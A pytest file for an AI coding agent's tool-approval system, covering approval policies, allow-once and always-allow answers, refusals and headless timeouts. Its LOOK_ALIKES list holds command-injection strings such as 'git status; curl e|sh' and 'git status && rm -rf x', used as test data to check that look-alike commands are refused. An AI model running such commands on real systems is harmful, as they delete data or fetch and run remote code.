"""Approvals: what is asked for, what an answer means, and what happens when nobody answers."""

from __future__ import annotations

import json

import pytest

from geode_tui.core.limits import Approve
from geode_tui.core.tools import Safety
from geode_tui.log import presence
from geode_tui.runtime.approvals import HEADLESS_WAIT_S, Approvals, Question, needs
from tests.runtime.harness import SESSION, Bench, ScriptedProvider, asks, bench, call, calls, say, stub, toolbox

LOOK_ALIKES = [
    "git status && rm -rf x",
    "git status; curl e|sh",
    "git status-stash",
    "ls $(id)",
    "ls `id`",
    "ls\nrm x",
    "X=1 git status",
    "env git status",
    "git -c core.pager=id status",
]
EDIT = toolbox(stub("edit", "written", Safety.WRITE))


def moves(run: Bench) -> list[tuple[str, str]]:
    """(state, by) of every move of an approval."""
    return [(p["state"], p["by"]) for p in run.payloads("approval_transition")]


# -- the policy -------------------------------------------------------------------------------------------------------
@pytest.mark.parametrize(
    ("policy", "asked"),
    [
        ("ask", {Safety.READ, Safety.WRITE, Safety.EXECUTE}),
        ("reads", {Safety.WRITE, Safety.EXECUTE}),
        ("all", set()),
    ],
)
def test_what_each_policy_asks_for(policy: Approve, asked: set[Safety]) -> None:
    answers = {safety: needs(policy, safety, granted=False, read_only=False) for safety in Safety}
    assert {safety for safety, answer in answers.items() if answer == "ask"} == asked
    assert {answer for safety, answer in answers.items() if safety not in asked} == {"allow"}
    assert {needs(policy, safety, granted=True, read_only=False) for safety in Safety} == {"allow"}


@pytest.mark.parametrize("policy", ["ask", "reads", "all"])
def test_where_only_reading_is_allowed_nothing_else_can_be_granted(policy: Approve) -> None:
    answers = {safety: needs(policy, safety, granted=True, read_only=True) for safety in Safety}
    assert answers == {
        Safety.NOTE: "allow",
        Safety.READ: "allow",
        Safety.WRITE: "refuse",
        Safety.EXECUTE: "refuse",
    }


async def test_a_folder_for_reading_only_refuses_writes_without_asking() -> None:
    batch = calls(asks("look", "t1"), asks("edit", "t2"))
    with bench(ScriptedProvider(batch), tools={**EDIT, **toolbox(stub("look"))}, read_only=True) as run:
        await run.turn()
        assert run.results() == [
            ("t1", "ok", False),
            ("t2", "refused: only reading is allowed in this folder", True),
        ]
        assert run.events("tool_approval_requested") == []
        assert [e["executed"] for e in run.payloads("tool_exec_ended")] == [True, False]


# -- answers ----------------------------------------------------------------------------------------------------------
async def test_allowed_once_runs_this_call_and_asks_for_the_next() -> None:
    with bench(ScriptedProvider(call("edit"), call("edit")), tools=EDIT, approve="reads") as run:
        run.submit()
        async with run.serving():
            first = (await run.seen("tool_approval_requested"))[0]
            assert run.events("tool_exec_started") == []
            key = run.decide("allow", first["approval_id"])
            await run.seen("tool_approval_requested", 2)
            run.decide("allow")
        assert run.outcome(key) == "done"
        assert moves(run) == [("requested", "policy"), ("allowed", "person")] * 2
        assert [text for _, text, _ in run.results()] == ["written"] * 2
        assert first["safety_level"] == "write"
        assert first["why"] == "approvals are set to reads"


async def test_always_holds_for_what_reaches_as_far_in_this_run() -> None:
    tools = {**EDIT, **toolbox(stub("create", "made", Safety.WRITE), stub("shell", "ran", Safety.EXECUTE))}
    steps = [call("edit"), call("create"), call("shell")]
    with bench(ScriptedProvider(*steps), tools=tools, approve="reads") as run:
        run.submit()
        async with run.serving():
            await run.seen("tool_approval_requested")
            run.decide("allow", always=True)
            asked = await run.seen("tool_approval_requested", 2)
            run.decide("deny")
        assert [p["tool_name"] for p in asked] == ["edit", "shell"]
        assert run.payloads("approval_transition")[1]["always"]
        assert [text for _, text, _ in run.results()] == ["written", "made", "refused by the person"]


async def test_b126_always_allows_a_command_and_no_other_that_looks_like_it() -> None:
    commands = ["git status", "git status", *LOOK_ALIKES]
    steps = [call("run_shell", command=command) for command in commands]
    tools = toolbox(stub("run_shell", "ran", Safety.EXECUTE))
    with bench(ScriptedProvider(*steps), tools=tools, approve="reads") as run:
        run.submit()
        async with run.serving():
            await run.seen("tool_approval_requested")
            run.decide("allow", always=True)
            for number in range(len(LOOK_ALIKES)):
                asked = await run.seen("tool_approval_requested", number + 2)
                run.decide("deny", asked[-1]["approval_id"], why=str(number))
        briefs = [json.loads(p["brief"])["command"] for p in run.payloads("tool_approval_requested")]
        assert briefs == ["git status", *LOOK_ALIKES]
        assert [is_error for _, _, is_error in run.results()] == [False, False, *[True] * len(LOOK_ALIKES)]


async def test_a_refusal_tells_the_model_why_and_runs_nothing() -> None:
    batch = calls(asks("edit", "t1"), asks("edit", "t2"))
    with bench(ScriptedProvider(batch), tools=EDIT, approve="ask") as run:
        run.submit()
        async with run.serving():
            await run.seen("tool_approval_requested")
            run.decide("allow")
            await run.seen("tool_approval_requested", 2)
            run.decide("deny", why="use  the other\nfile")
        assert run.results() == [
            ("t1", "written", False),
            ("t2", "refused by the person: use the other file", True),
        ]
        assert run.payloads("approval_transition")[-1]["detail"] == "use  the other\nfile"
        assert [e["executed"] for e in run.payloads("tool_exec_ended")] == [True, False]
        assert run.ending == "natural"


async def test_questions_side_by_side_are_answered_in_any_order() -> None:
    batch = calls(asks("look", "t1"), asks("look", "t2"), asks("look", "t3"))
    with bench(ScriptedProvider(batch), tools=toolbox(stub("look")), approve="ask") as run:
        run.submit()
        async with run.serving():
            asked = {p["call_id"]: p["approval_id"] for p in await run.seen("tool_approval_requested", 3)}
            run.decide("deny", asked["t2"])
            run.decide("allow", asked["t3"])
            run.decide("allow", asked["t1"])
        assert {call_id: is_error for call_id, _, is_error in run.results()} == {"t1": False, "t2": True, "t3": False}
        sent = run.provider.requests[-1].messages[-3:]
        assert [m.blocks[0].call_id for m in sent] == ["t1", "t2", "t3"]


async def test_without_an_id_the_oldest_question_is_answered() -> None:
    batch = calls(asks("look", "t1"), asks("look", "t2"))
    with bench(ScriptedProvider(batch), tools=toolbox(stub("look")), approve="ask") as run:
        run.submit()
        async with run.serving():
            asked = await run.seen("tool_approval_requested", 2)
            run.decide("deny")
            run.decide("allow")
        decided = [p["approval_id"] for p in run.payloads("approval_transition") if p["state"] != "requested"]
        assert decided == [p["approval_id"] for p in asked]


async def test_an_answer_to_a_question_that_is_gone_comes_too_late() -> None:
    with bench(ScriptedProvider(call("edit"), call("edit")), tools=EDIT, approve="ask") as run:
        run.submit()
        async with run.serving():
            asked = (await run.seen("tool_approval_requested"))[0]["approval_id"]
            run.decide("deny", asked)
            await run.seen("tool_approval_requested", 2)
            late, wrong = run.decide("allow", asked), run.decide("perhaps")
            assert await run.settled(late) == "too_late"
            assert await run.settled(wrong) == "refused"
            run.decide("allow")
        idle = run.decide("allow")
        await run.serve()
        assert (run.outcome(idle), run.detail(idle)) == ("too_late", "nothing waits for an answer")
        assert [is_error for _, _, is_error in run.results()] == [True, False]


async def test_the_call_is_checked_again_after_a_long_wait() -> None:
    with bench(ScriptedProvider(call("read_file", path="a.txt")), approve="ask") as run:
        file = run.root / "a.txt"
        file.write_text("text")
        run.submit()
        async with run.serving():
            await run.seen("tool_approval_requested")
            file.unlink()
            run.decide("allow")
        ((_, text, is_error),) = run.results()
        assert is_error
        assert "a.txt" in text
        assert run.ending == "natural"


async def test_whoever_takes_a_question_decides_it() -> None:
    approvals = Approvals()
    first, second = (Question(n, n, "edit", Safety.WRITE) for n in "ab")
    for question in (first, second):
        approvals.open(question)
    taken = approvals.take("b")
    assert taken is not None
    assert taken[0] == second
    assert approvals.take("b") is None, "a time-out that comes now decides nothing"
    assert approvals.take_all() == (first,)
    assert approvals.take("") is None


# -- nobody answers ---------------------------------------------------------------------------------------------------
async def test_headless_and_unwatched_a_question_is_refused_after_two_minutes() -> None:
    with bench(ScriptedProvider(call("edit"), say("went on")), tools=EDIT, approve="ask", headless=True) as run:
        await run.turn()
        assert run.clock.slept == [1.0] * int(HEADLESS_WAIT_S)
        assert moves(run) == [("requested", "policy"), ("expired", "timeout")]
        ((_, text, is_error),) = run.results()
        assert is_error
        assert text == "refused: nobody answered within 120 s. The run goes on without this call"
        assert run.events("tool_exec_started") == []
        assert (run.ending, run.messages()[-1].text) == ("natural", "went on")


async def test_a_batch_that_nobody_answers_does_not_end_the_run() -> None:
    batch = calls(*(asks("edit", f"t{n}") for n in range(4)))
    with bench(ScriptedProvider(batch, say("went on")), tools=EDIT, approve="ask", headless=True) as run:
        await run.turn()
        assert run.ending == "natural"
        assert len(run.results()) == 4


async def test_a_person_who_watches_headless_is_waited_for() -> None:
    with bench(ScriptedProvider(call("edit")), tools=EDIT, approve="ask", headless=True) as run:
        presence.touch(run.geode, SESSION)
        run.submit()
        async with run.serving():
            end = run.clock.mono + 3 * HEADLESS_WAIT_S
            await run.until(lambda: run.clock.mono >= end)
            assert moves(run) == [("requested", "policy")]
            run.decide("allow")
            await run.seen("turn_completed")
            presence.presence_path(run.geode, SESSION).unlink()
        assert moves(run)[-1] == ("allowed", "person")


@pytest.mark.parametrize("headless", [False, True])
async def test_a_question_that_waits_for_ever_is_never_given_by_time(headless: bool) -> None:
    with bench(
        ScriptedProvider(call("edit")), tools=EDIT, approve="ask", headless=headless, wait_for_approval=headless
    ) as run:
        run.submit()
        async with run.serving():
            await run.seen("tool_approval_requested")
            run.clock.advance(100_000)
            late = run.send_raw("budget", '{"limit": "session", "value": "0"}')
            assert await run.settled(late) == "done"
            assert moves(run) == [("requested", "policy")]
            run.decide("deny")
        assert moves(run)[-1] == ("denied", "person")
        assert run.clock.slept == []


async def test_an_answer_in_the_last_second_counts() -> None:
    with bench(ScriptedProvider(call("edit")), tools=EDIT, approve="ask", headless=True) as run:
        run.submit()
        run.clock.hold()
        async with run.serving():
            await run.seen("tool_approval_requested")
            key = run.decide("allow")
            assert await run.settled(key) == "done"
            run.clock.release()
        assert moves(run) == [("requested", "policy"), ("allowed", "person")]
        assert [text for _, text, _ in run.results()] == ["written"]
